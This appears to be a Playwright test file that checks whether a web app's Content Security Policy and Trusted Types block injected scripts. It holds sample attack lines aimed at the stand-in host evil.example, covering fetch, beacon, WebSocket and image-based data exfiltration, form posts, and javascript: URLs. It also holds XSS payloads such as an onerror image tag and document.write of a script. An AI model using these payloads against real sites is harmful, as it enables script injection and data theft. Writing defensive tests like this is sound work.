import type { Page } from '@playwright/test';
import type { Scene, Trial } from './attack';
import { forgetViolations, nextViolation, violationsOn } from './violations';
import { untilHeading } from '../screen';

// What an attacker could do who can run a script in the page.

interface Attempt {
  readonly name: string;
  readonly body: () => unknown;
  readonly directive: string;
}

const attempt = (name: string, body: () => unknown, directive: string): Attempt => ({
  name,
  body,
  directive,
});

const attempts: readonly Attempt[] = [
  attempt('a foreign fetch', () => fetch('http://evil.example/').catch(() => {}), 'connect-src'),
  attempt(
    'a foreign beacon',
    () => navigator.sendBeacon('http://evil.example/', 'x'),
    'connect-src',
  ),
  attempt('a foreign socket', () => void new WebSocket('ws://evil.example/'), 'connect-src'),
  attempt(
    'figures in the address of an image',
    () => {
      new Image().src = 'http://evil.example/?margin=86';
    },
    'img-src',
  ),
  attempt(
    'a form to elsewhere',
    () => {
      const form = document.createElement('form');
      form.action = 'http://evil.example/';
      document.body.append(form);
      form.submit();
    },
    'form-action',
  ),
  attempt(
    'a javascript: address',
    () => {
      location.href = 'javascript:globalThis.canary=1';
    },
    'script-src-elem',
  ),
  attempt(
    'a click on a javascript: link',
    () => {
      const link = document.createElement('a');
      link.href = 'javascript:globalThis.canary=1';
      document.body.append(link);
      link.click();
    },
    'script-src-elem',
  ),
  attempt(
    'eval',
    // oxlint-disable-next-line typescript/no-implied-eval -- it is refused
    () => setTimeout(() => new Function('globalThis.canary=1')()),
    'require-trusted-types-for',
  ),
  ...sinks(),
];

/** The sinks that turn a string into code or markup: Trusted Types refuse each one. */
function sinks(): Attempt[] {
  const bodies: Record<string, () => unknown> = {
    'innerHTML with a string': () => {
      document.body.innerHTML = '<img src=x onerror=globalThis.canary=1>';
    },
    'document.write': () => document.write('<script>globalThis.canary=1</script>'),
    'a script element with an address': () => {
      document.createElement('script').src = 'http://evil.example/x.js';
    },
    'a script element with text': () => {
      document.createElement('script').text = 'globalThis.canary=1';
    },
    'a frame with markup': () => {
      document.createElement('iframe').srcdoc = '<script>parent.canary=1</script>';
    },
    'a worker of its own making': () => {
      return new Worker(URL.createObjectURL(new Blob(['1'])));
    },
    'a service worker': () => {
      void navigator.serviceWorker.register('/x.js');
    },
  };
  const rows = Object.entries(bodies).map(([name, body]) =>
    attempt(name, body, 'require-trusted-types-for'),
  );
  const policy = attempt(
    'a policy for Trusted Types',
    () => {
      const { trustedTypes } = globalThis as unknown as {
        trustedTypes: { createPolicy: (name: string, rules: object) => void };
      };
      trustedTypes.createPolicy('evil', { createHTML: (text: string) => text });
    },
    'trusted-types',
  );
  return [...rows, policy];
}

const SERVICE_WORKER = 'a service worker';

/** A test that runs scripts on one page, one after the other. */
function trialOf(name: string, tried: readonly Attempt[]): Trial {
  return {
    name,
    rows: tried.map((row) => ({ name: row.name, expected: `refused by ${row.directive}` })),
    run: async (scene) => {
      const { page } = scene;
      await openWelcome(page);
      const seen: string[] = [];
      for (const { body, directive } of tried) {
        const came = await tryOut(scene, body);
        seen.push(came);
        // A script that was not refused may have changed the page.
        if (came !== `refused by ${directive}`) await openWelcome(page);
      }
      return seen;
    },
  };
}

async function openWelcome(page: Page): Promise<void> {
  await page.goto('/');
  await untilHeading(page, 'Welcome to Thela');
}

async function tryOut({ page, asked }: Scene, body: () => unknown): Promise<string> {
  await forgetViolations(page);
  const refusal = nextViolation(page).catch(() => {});
  // A script that throws is refused, too; the violation names the directive.
  await page.evaluate(body).catch(() => {});
  await refusal;
  const requests = asked.splice(0);
  if (requests.length > 0) return `asked for ${requests.join()}`;
  const directives = new Set((await violationsOn(page)).map(({ directive }) => directive));
  return `refused by ${[...directives].toSorted().join(', ') || 'nothing'}`;
}

const isWorker = ({ name }: Attempt) => name === SERVICE_WORKER;

export const scriptInjections: readonly Trial[] = [
  trialOf(
    'script that runs in the page',
    attempts.filter((row) => !isWorker(row)),
  ),
  { ...trialOf(SERVICE_WORKER, attempts.filter(isWorker)), hasWorker: true },
];
